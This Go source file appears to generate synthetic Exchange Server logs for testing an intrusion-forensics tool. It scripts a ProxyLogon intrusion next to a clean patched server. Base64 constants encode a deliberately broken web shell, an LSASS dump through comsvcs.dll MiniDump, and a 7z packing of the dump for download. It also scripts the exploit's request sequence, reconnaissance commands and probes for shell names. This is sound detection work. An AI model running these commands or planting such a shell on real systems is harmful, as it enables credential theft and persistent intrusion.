package main

import (
	"encoding/base64"
	"fmt"
	"strconv"
	"strings"
	"time"

	"limier/internal/traffic"
)

// What the intruder left, encoded so that antivirus leaves the source alone.
// The web shell is of the kind of March 2021 (a script in an ExternalUrl,
// TRACES of https://www.microsoft.com/security/blog/2021/03/02/hafnium-targeting-exchange-servers/)
// with one brace too many: ASP.NET refuses to compile it.
const (
	encodedShell  = "PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1ZXN0WyJleGFtcGxlIl0sInVuc2FmZSIpO319PC9zY3JpcHQ+"
	encodedPrefix = "ImNtZCIgL2MgY2QgL2QgIkM6L1Byb2dyYW0gRmlsZXMvTWljcm9zb2Z0L0V4Y2hhbmdlIFNlcnZlci9WMTUvRnJvbnRFbmQvSHR0cFByb3h5L293YS9hdXRoLyIm"
	encodedSuffix = "JmVjaG8gW1NdJmNkJmVjaG8gW0Vd"
	encodedDump   = "cnVuZGxsMzIuZXhlIEM6XFdpbmRvd3NcU3lzdGVtMzJcY29tc3Zjcy5kbGwsIE1pbmlEdW1wIDY0NCBDOlxXaW5kb3dzXFRlbXBcZXguZG1wIGZ1bGw="
	encodedPack   = "QzpcUHJvZ3JhbURhdGFcN3ouZXhlIGEgLWhwZXhhbXBsZSBDOlxpbmV0cHViXHd3d3Jvb3RcYXNwbmV0X2NsaWVudFxpdC56aXAgQzpcV2luZG93c1xUZW1wXGV4LmRtcA=="
)

func decode(s string) (string, error) {
	b, err := base64.StdEncoding.DecodeString(s)
	return string(b), err
}

// The two intruders, who know nothing of each other.
const (
	exploiter = "203.0.113.45"  // of the first: breaks in
	operator  = "198.51.100.23" // of the first: uses what was left
	latecomer = "203.0.113.201" // of the second: looks for others' shells, fails
	shellURL  = "/owa/auth/errorEW.aspx"
	shellFile = exchange + "FrontEnd/HttpProxy/owa/auth/errorEW.aspx"
)

func march(day, hour, minute, second, ms int) time.Time {
	return time.Date(2021, 3, day, hour, minute, second, ms*1_000_000, time.UTC)
}

// intrusion is Exchange 2016 CU18 without updates, broken into by ProxyLogon
// (CVE-2021-26855, CVE-2021-27065) on 3 March 2021 at 04:21 UTC.
func intrusion() (*collection, error) {
	c := newCollection(traffic.Server{Host: "EX01", Domain: "example.org", Realm: "EXAMPLE", IP: "10.0.0.10", Build: [4]int{15, 1, 2106, 2}})
	start, end := march(1, 0, 0, 0, 0), march(9, 10, 11, 12, 0)
	c.product("Exchange Server 2016", "15.1.2106.2", time.Date(2020, 10, 17, 8, 12, 40, 0, time.UTC), false)
	g := c.ordinary(1, start, end, 700)
	c.windows(1, start, end)
	var text [5]string
	for i, e := range []string{encodedShell, encodedPrefix, encodedSuffix, encodedDump, encodedPack} {
		s, err := decode(e)
		if err != nil {
			return nil, err
		}
		text[i] = s
	}
	x := &intruder{collection: c, id: g.ID, shell: text[0], prefix: text[1], suffix: text[2]}
	x.lookAround()
	x.proxyLogon(march(3, 4, 11, 22, 162), "a3f1c2d4", false)
	x.drop(x.proxyLogon(march(3, 4, 21, 10, 817), "b7e2d9f0", true))
	x.use(text[3], text[4])
	x.probe()
	return c, nil
}

// clean is Exchange SE with all updates and Extended Protection, in 2026.
func clean() (*collection, error) {
	c := newCollection(traffic.Server{Host: "EX02", Domain: "example.org", Realm: "EXAMPLE", IP: "10.0.0.11", Build: [4]int{15, 2, 2562, 41}})
	start, end := time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 6, 9, 10, 11, 12, 0, time.UTC)
	c.product("Exchange Server Subscription Edition", "15.2.2562.41", time.Date(2026, 5, 9, 7, 30, 0, 0, time.UTC), true)
	c.ordinary(2, start, end, 700)
	c.windows(2, start, end)
	c.ecp(end.Add(-50*time.Hour), "Get-InboxRule", "/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=Example.", "")
	return c, nil
}

// An intruder adds what he did to a collection.
type intruder struct {
	*collection
	id                    func() [16]byte
	shell, prefix, suffix string
}

func (x *intruder) at(t time.Time, client, method, stem, agent string, status int) traffic.Request {
	return traffic.Request{Time: t, ID: x.id(), Host: "mail.example.org", Client: client, Method: method, Stem: stem, Agent: agent, Status: status, Taken: 30 + int(t.UnixMilli()%170), RequestBytes: 300, ResponseBytes: 512}
}

const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.150 Safari/537.36"

// lookAround asks for the server's name, as a scanner does.
func (x *intruder) lookAround() {
	r := x.at(march(3, 4, 9, 58, 120), exploiter, "GET", "/rpc/", "python-requests/2.25.1", 401)
	r.Protocol, r.Auth = "RpcHttp", "NTLM"
	x.request(r)
	r = x.at(march(3, 4, 10, 3, 480), exploiter, "GET", "/owa/auth/logon.aspx", "python-requests/2.25.1", 200)
	r.Protocol, r.Auth = "Owa", "FBA"
	x.request(r)
}

// proxyLogon is one run of the exploit, and returns when it wrote its file. A
// run that fails stops where Active Directory does not know the folder.
func (x *intruder) proxyLogon(t time.Time, canary string, works bool) (wrote time.Time) {
	canary = "Ex" + canary + "Yh-Gk0q."
	const back = "ServerInfo~a]@ex01.example.org:444"
	step := func(after time.Duration, agent, path, query string, status int) time.Time {
		t = t.Add(after)
		r := x.at(t, exploiter, "POST", "/ecp/y.js", agent, status)
		r.Protocol, r.Auth, r.Proxied, r.RoutingHint = "Ecp", "FBA", true, "X-BEResource-Cookie"
		r.Anchor = back + path + "?" + query + "#"
		r.BackStem, r.BackQuery, r.BackUser = path, query, x.server.Host+"$"
		if query == "" {
			r.BackQuery = "&ActID=" + traffic.GUID(r.ID)
		}
		x.request(r)
		return t
	}
	step(0, "ExchangeServicesClient/0.0.0.0", "/autodiscover/autodiscover.xml", "", 200)
	step(1537*time.Millisecond, "python-requests/2.25.1", "/mapi/emsmdb/", "", 200)
	step(2511*time.Millisecond, "python-requests/2.25.1", "/ecp/proxyLogon.ecp", "", 241)
	const service = "/ecp/DDI/DDIService.svc/"
	in := "msExchEcpCanary=" + canary + "&schema="
	at := step(1558*time.Millisecond, "python-requests/2.25.1", service+"GetObject", in+"OABVirtualDirectory", 200)
	x.ecp(at.Add(-82*time.Millisecond), "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", service+"GetObject?"+in+"OABVirtualDirectory", "")
	const object = "ecd24641-d37f-4974-89f5-2e85ef7fb8d4"
	set := "Set-OabVirtualDirectory.ExternalUrl='http://f/" + x.shell + "'.Identity='" + object + "'"
	if !works {
		at = step(2229*time.Millisecond, "python-requests/2.25.1", service+"SetObject", in+"OABVirtualDirectory", 500)
		x.ecp(at.Add(-82*time.Millisecond), set, service+"SetObject?"+in+"OABVirtualDirectory",
			"Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed on dc01.example.org. The object 'CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX01,CN=Servers' does not exist.")
		return time.Time{}
	}
	at = step(3454*time.Millisecond, "python-requests/2.25.1", service+"SetObject", in+"OABVirtualDirectory", 200)
	x.ecp(at.Add(-82*time.Millisecond), set, service+"SetObject?"+in+"OABVirtualDirectory", "")
	x.cmdlet(at.Add(-60*time.Millisecond), "Set-OabVirtualDirectory", `-ExternalUrl "http://f/`+x.shell+`" -Identity "`+object+`"`, "NT AUTHORITY/SYSTEM", "ECP", "MSExchangeECPAppPool")
	reset := `-FilePathName "\\127.0.0.1\c$\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorEW.aspx"`
	at = step(2317*time.Millisecond, "python-requests/2.25.1", service+"SetObject", in+"ResetOABVirtualDirectory", 200)
	x.ecp(at.Add(-72*time.Millisecond), "Remove-OABVirtualDirectory.Force=$true.Identity='EX01\\OAB (Default Web Site)'", service+"SetObject?"+in+"ResetOABVirtualDirectory", "")
	x.ecp(at.Add(-31*time.Millisecond), "New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='EX01'.Role='ClientAccess'.InternalURL='https://ex01.example.org/OAB'.Path='C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB'", service+"SetObject?"+in+"ResetOABVirtualDirectory", "")
	x.cmdlet(at.Add(-70*time.Millisecond), "Remove-OabVirtualDirectory", `-Force "True" -Identity "EX01\OAB (Default Web Site)" `+reset, "NT AUTHORITY/SYSTEM", "ECP", "MSExchangeECPAppPool")
	wrote = at.Add(-40 * time.Millisecond)
	x.cmdlet(at.Add(-30*time.Millisecond), "New-OabVirtualDirectory", `-WebSiteName "Default Web Site" -Server "EX01" -Role "ClientAccess" -InternalURL "https://ex01.example.org/OAB"`, "NT AUTHORITY/SYSTEM", "ECP", "MSExchangeECPAppPool")
	at = step(2929*time.Millisecond, "python-requests/2.25.1", service+"SetObject", in+"OABVirtualDirectory", 200)
	x.ecp(at.Add(-76*time.Millisecond), "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='"+object+"'", service+"SetObject?"+in+"OABVirtualDirectory", "")
	return wrote
}

// ecp adds a line to Logging\ECP\Server.
func (c *collection) ecp(t time.Time, cmd, url, ex string) {
	quote := ""
	if strings.Contains(cmd, "'") {
		quote = "'"
		cmd = strings.ReplaceAll(cmd, "'", "''")
	}
	b := c.server.Build
	data := "S:TIME=" + strconv.Itoa(20+int(t.UnixMilli()%200)) + ";S:SID=7c1d8a34-6a0e-4f0e-8df2-7b5f0cbb9a11;" + quote + "S:CMD=" + cmd + quote + ";S:REQID=;S:URL=" + url +
		";S:REFERRER=;S:EX=" + ex + ";S:ACTID=0b5a7c9e-2f11-4d80-9a63-91f4f0a2c7d5;S:RS=0;S:BLD=" + fmt.Sprintf("%d.%d.%d.%d", b[0], b[1], b[2], b[3]) + ";S:TNAME=<null>;S:TID=;S:USID=;S:EDOID=;S:ACID="
	c.csv(exchange+"Logging/ECP/Server/ECPServer"+t.Format("20060102")+"-1.LOG", "ECP Server Log", "TimeStamp,ServerName,EventId,EventData", t,
		t.Format(traffic.ExchangeTime), c.server.Host, "ECP.Request", data)
}

// drop leaves the web shell: the virtual directory's description, as text.
func (x *intruder) drop(t time.Time) {
	lines := [][2]string{
		{"Name", "OAB (Default Web Site)"}, {"PollInterval", "480"}, {"OfflineAddressBooks", ""}, {"RequireSSL", "True"}, {"BasicAuthentication", "False"},
		{"WindowsAuthentication", "True"}, {"OAuthAuthentication", "True"}, {"MetabasePath", "IIS://EX01.example.org/W3SVC/1/ROOT/OAB"},
		{"Path", `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB`}, {"ExtendedProtectionTokenChecking", "None"},
		{"AdminDisplayVersion", "Version 15.1 (Build 2106.2)"}, {"Server", "EX01"}, {"InternalUrl", "https://ex01.example.org/OAB"},
		{"InternalAuthenticationMethods", "OAuth\r\n                                  WindowsIntegrated"}, {"ExternalUrl", "http://f/" + x.shell},
		{"ExternalAuthenticationMethods", "OAuth\r\n                                  WindowsIntegrated"}, {"AdminDisplayName", ""}, {"ExchangeVersion", "0.10 (14.0.100.0)"},
		{"DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=EXAMPLE,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=example,DC=org"},
		{"Identity", `EX01\OAB (Default Web Site)`}, {"Guid", "ecd24641-d37f-4974-89f5-2e85ef7fb8d4"}, {"WhenChanged", t.Format("1/2/2006 3:04:05 PM")}, {"WhenCreated", "10/17/2020 9:02:11 AM"},
		{"OriginatingServer", "dc01.example.org"}, {"IsValid", "True"},
	}
	var b strings.Builder
	for _, l := range lines {
		fmt.Fprintf(&b, "%-32s: %s\r\n", l[0], l[1])
	}
	x.file(shellFile, t.Truncate(time.Second), b.String())
	x.event(sysmon, winEvent{time: t, channel: sysmonChannel, provider: "Microsoft-Windows-Sysmon", id: 11, level: 4, task: 11, keywords: 0x8000000000000000, pid: 2980,
		names:  []string{"RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "TargetFilename", "CreationUtcTime"},
		values: []string{"-", utc(t), processGUID(6120), "6120", w3wp, `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorEW.aspx`, utc(t)}})
}

const (
	sysmon        = "Microsoft-Windows-Sysmon%4Operational.evtx"
	sysmonChannel = "Microsoft-Windows-Sysmon/Operational"
	w3wp          = `C:\Windows\System32\inetsrv\w3wp.exe`
	owaPool       = `c:\windows\system32\inetsrv\w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0" -c "C:\Program Files\Microsoft\Exchange Server\V15\bin\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\.\pipe\iisipm3f1c -h "C:\inetpub\temp\apppools\MSExchangeOWAAppPool\MSExchangeOWAAppPool.config" -w "" -m 0`
)

func utc(t time.Time) string { return t.Format("2006-01-02 15:04:05.000") }

func processGUID(pid int) string { return fmt.Sprintf("{b3c1a5d2-9e4f-603f-0000-%012x}", pid) }

// use is what the operator does with the shell, over three days.
func (x *intruder) use(dump, pack string) {
	x.page(march(3, 4, 24, 40, 310), exploiter, "GET", shellURL, "python-requests/2.25.1", 200)
	run := func(t time.Time, pid int, command string, kids ...string) {
		x.page(t, operator, "POST", shellURL, chrome, 200)
		x.process(t.Add(40*time.Millisecond), pid, `C:\Windows\System32\cmd.exe`, x.prefix+command+x.suffix, 4416, w3wp, owaPool)
		for i, k := range kids {
			image, _, _ := strings.Cut(k, " ")
			image = strings.TrimSuffix(image, ".exe")
			full := `C:\Windows\System32\` + image + ".exe"
			if strings.Contains(image, `\`) {
				full = image + ".exe"
			}
			x.process(t.Add(time.Duration(70+30*i)*time.Millisecond), pid+4*(i+1), full, k, pid, `C:\Windows\System32\cmd.exe`, x.prefix+command+x.suffix)
		}
	}
	run(march(3, 4, 25, 10, 480), 7120, "whoami", "whoami")
	run(march(3, 4, 25, 52, 90), 7164, `net group "Domain Admins" /domain`, `net group "Domain Admins" /domain`)
	run(march(3, 4, 27, 3, 777), 7208, "tasklist /svc", "tasklist /svc")
	run(march(5, 2, 14, 8, 345), 9332, dump, dump)
	run(march(5, 2, 19, 44, 10), 9388, pack, pack)
	r := x.at(march(5, 2, 31, 20, 555), operator, "GET", "/aspnet_client/it.zip", chrome, 200)
	r.Bare, r.Taken = true, 412_655
	x.request(r)
	run(march(5, 2, 40, 1, 200), 9460, `attrib +h +s +r errorEW.aspx`, `attrib +h +s +r errorEW.aspx`)
	run(march(6, 1, 2, 17, 640), 10244, `del C:\Windows\Temp\ex.dmp`)
}

// page asks for a page that the front end serves itself.
func (x *intruder) page(t time.Time, client, method, stem, agent string, status int) {
	r := x.at(t, client, method, stem, agent, status)
	if strings.HasPrefix(stem, "/owa/") {
		r.Protocol, r.Auth = "Owa", "FBA"
	} else {
		r.Bare = true
	}
	if status == 404 {
		r.Win32 = 2
	}
	x.request(r)
}

// process adds the start of a process, to Sysmon's log and to Security.
func (x *intruder) process(t time.Time, pid int, image, command string, parent int, parentImage, parentCommand string) {
	x.event(sysmon, winEvent{time: t, channel: sysmonChannel, provider: "Microsoft-Windows-Sysmon", id: 1, level: 4, task: 1, keywords: 0x8000000000000000, pid: 2980,
		names: []string{"RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "FileVersion", "Description", "Product", "Company", "OriginalFileName", "CommandLine", "CurrentDirectory", "User", "LogonGuid", "LogonId", "TerminalSessionId", "IntegrityLevel", "Hashes", "ParentProcessGuid", "ParentProcessId", "ParentImage", "ParentCommandLine"},
		values: []string{"-", utc(t), processGUID(pid), strconv.Itoa(pid), image, "-", "-", "-", "-", "-", command, `c:\windows\system32\inetsrv\`, `NT AUTHORITY\SYSTEM`, "{b3c1a5d2-9e4f-603f-e703-000000000000}", "0x3e7", "0", "System", "-",
			processGUID(parent), strconv.Itoa(parent), parentImage, parentCommand}})
	x.event("Security.evtx", winEvent{time: t, channel: "Security", provider: "Microsoft-Windows-Security-Auditing", id: 4688, task: 13312, keywords: 0x8020000000000000, pid: 4,
		names:  []string{"SubjectUserSid", "SubjectUserName", "SubjectDomainName", "SubjectLogonId", "NewProcessId", "NewProcessName", "TokenElevationType", "ProcessId", "CommandLine", "TargetUserSid", "TargetUserName", "TargetDomainName", "TargetLogonId", "ParentProcessName", "MandatoryLabel"},
		values: []string{"S-1-5-18", "EX01$", "EXAMPLE", "0x3e7", "0x" + strconv.FormatInt(int64(pid), 16), image, "%%1936", "0x" + strconv.FormatInt(int64(parent), 16), command, "S-1-0-0", "-", "-", "0x0", parentImage, "S-1-16-16384"}})
}

// probe is the second intruder: he tries names that others' shells had, and
// one exploit that fails.
func (x *intruder) probe() {
	names := []string{"/owa/auth/OutlookEN.aspx", "/owa/auth/TimeoutLogout.aspx", "/owa/auth/RedirSuiteServerProxy.aspx", "/aspnet_client/discover.aspx", "/aspnet_client/supp0rt.aspx",
		"/aspnet_client/shell.aspx", "/aspnet_client/system_web/log.aspx", "/owa/auth/8Lw7tAhF9i1pJnRo.aspx", "/owa/auth/logg.aspx"}
	for day, t := range []time.Time{march(6, 3, 6, 27, 696), march(8, 2, 55, 13, 675)} {
		for i, n := range names[day:] {
			status := 404
			if strings.HasPrefix(n, "/owa/") {
				status = 302
			}
			x.page(t.Add(time.Duration(i)*1903*time.Millisecond), latecomer, "GET", n, "Mozilla/5.0 (X11; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0", status)
		}
	}
	r := x.at(march(8, 2, 57, 40, 12), latecomer, "POST", "/ecp/x.js", "python-requests/2.24.0", 503)
	r.Protocol, r.Auth, r.Proxied, r.RoutingHint, r.Anchor = "Ecp", "FBA", true, "X-BEResource-Cookie", "ServerInfo~a]@mail:444/autodiscover/autodiscover.xml?#"
	r.BackEndStatus = 503
	r.BackStem, r.BackQuery = "/autodiscover/autodiscover.xml", "&ActID="+traffic.GUID(r.ID)
	x.request(r)
}
